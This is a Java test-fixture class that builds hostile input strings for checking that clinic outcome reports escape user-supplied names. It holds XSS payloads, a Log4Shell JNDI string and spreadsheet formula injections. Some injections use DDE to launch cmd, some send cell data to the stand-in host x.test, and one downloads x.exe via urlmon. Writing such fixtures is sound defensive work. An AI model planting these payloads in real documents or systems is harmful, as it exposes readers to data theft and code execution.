package org.clinicoutcomes.templates;

import java.util.ArrayList;
import java.util.List;

/**
 * Texts by which somebody who may only name a site, a program or a measure would try to
 * reach the machine of who opens a report.
 */
public final class HostileTexts {

	private static final List<String> MARKUP = List.of("<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
			"<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
			"<style>*{display:none}</style>", "<link rel=stylesheet href=//x.test/a.css>", "<base href=//x.test/>",
			"<meta http-equiv=refresh content=0;url=//x.test>", "<form action=//x.test><input name=a>",
			"<body onload=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>", "<!-- ", "--!><b>", "<![CDATA[",
			"]]><b>x</b>", "<?php phpinfo() ?>", "<!DOCTYPE html>", "&lt;b&gt;", "&#x3c;b&#x3e;", "&quot; onclick=",
			"&amp;&nosuch;&", "onmouseover=alert(1) ", "style=background:url(//x.test)", "javascript:alert(1)",
			"url(https://x.test/a.woff)", "expression(alert(1))", "} body { display: none } @import '//x.test';",
			"\\22 ; } * { color: red } \\", "content: attr(x); /* ", "*/ html{display:none} /*", "{running-foot}",
			"{lato-regular}", "${7*7} {{7*7}} <%= 7*7 %> #{7*7}", "%s %d %n", "\u202e<b>\u202c", "\ud83d\ude00<b>",
			"\ud83d<b>", "\u0000<b>", "\u0008\u000b\u001b[31m", "\ufeff<b>", "\ufffe\uffff", "\u0085\u2028\u2029<b>",
			"\uff1cscript\uff1e", "<\u0000script>", "=1+1", "\r\n<b>\r", "<title>x</title>");

	private static final List<String> SURROUNDINGS = List.of("%s", "\">%s", "'>%s", "\" %s x=\"", "' %s x='",
			"</title></style></script>%s", "--></desc></svg></text>%s<!--",
			"</td></th></table></main></body></html>%s");

	private static final List<String> STARTS = List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "\"=", "{=",
			"\uff1d", "\uff0b", "\uff0d", "\uff20", "\u00a0=", "\ufeff=", "\u200b@", ";=", "%0A=");

	private static final List<String> FORMULAS = List.of("1+1", "cmd|' /C calc'!A0",
			"HYPERLINK(\"https://x.test/?\"&A1,\"see\")", "WEBSERVICE(\"https://x.test/\"&A1)",
			"IMPORTXML(CONCAT(\"https://x.test/?\",A1),\"//a\")", "IMPORTDATA(\"https://x.test\")",
			"DDE(\"cmd\";\"/C calc\";\"x\")", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
			"SUM(1+1)*cmd|' /C calc'!A0", "rundll32|'URL.dll,OpenURL calc.exe'!A", "'file:///etc/passwd'#$passwd.A1",
			"[other.xlsx]Sheet1!A1", "INDIRECT(\"A1\")",
			"CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"https://x.test\",\"x.exe\",0,0)");

	private static final List<String> LINKS = List.of("http://x.test", "https://x.test/?a=b&c=d", "HTTP://X.TEST",
			"www.x.test", "ftp://x.test/a", "mailto:a@x.test", "a@x.test", "file:///etc/passwd", "\\\\x.test\\share",
			"javascript:alert(1)", "vbscript:x", "data:text/html,x", "tel:+15550100", "#Sheet1!A1", "ms-word:ofe|u|x",
			"skype:x?call", "smb://x.test/a", "<https://x.test>");

	private static final List<String> OTHERS = List.of("_x003D_1+1", "_x000D_=1", "_x005F_x0041_", "a_x0041_b", "_x",
			"&A&F&P", "&C centre &R right", "A&C Care / R&R", "&&", "&\"Arial,Bold\"&K00FF00", "&8x", "0001", "1e308",
			"1/2", "12-31", "TRUE", "#REF!", "#N/A", "NaN", "1,5", "R1C1", "A1", "History", "'quoted'", "\"quoted\"",
			"a\"b,c;d\te", "</t></si><f>1+1</f>", "<v>1</v>", "]]>", "&#61;1+1", "&amp;=1", "\u202e=1\u202c",
			"e\u0301\u0327", "\ud83d\udc69\u200d\ud83d\ude80", "\u0627\u0644\u0639", "\u6f22\u5b57", "\u00a0",
			"\u2028x", "a\\nb", "\\=1", "../../x", "C:\\x", "$(x)", "`x`", "${jndi:ldap://x.test}", "%s %d %n", "{0}",
			"null", "[Red]0", "*", "~", "=".repeat(8000), "x".repeat(8000));

	private HostileTexts() {
	}

	/**
	 * Texts that a page could take for markup.
	 * @return each in several surroundings
	 */
	public static List<String> forPages() {
		return MARKUP.stream()
			.flatMap((attack) -> SURROUNDINGS.stream().map((surrounding) -> surrounding.replace("%s", attack)))
			.toList();
	}

	/**
	 * Texts that a spreadsheet could compute, follow or misread.
	 * @return each once
	 */
	public static List<String> forSpreadsheets() {
		List<String> texts = new ArrayList<>();
		STARTS.forEach((start) -> FORMULAS.forEach((formula) -> texts.add(start + formula)));
		texts.addAll(LINKS);
		texts.addAll(OTHERS);
		return List.copyOf(texts);
	}

}
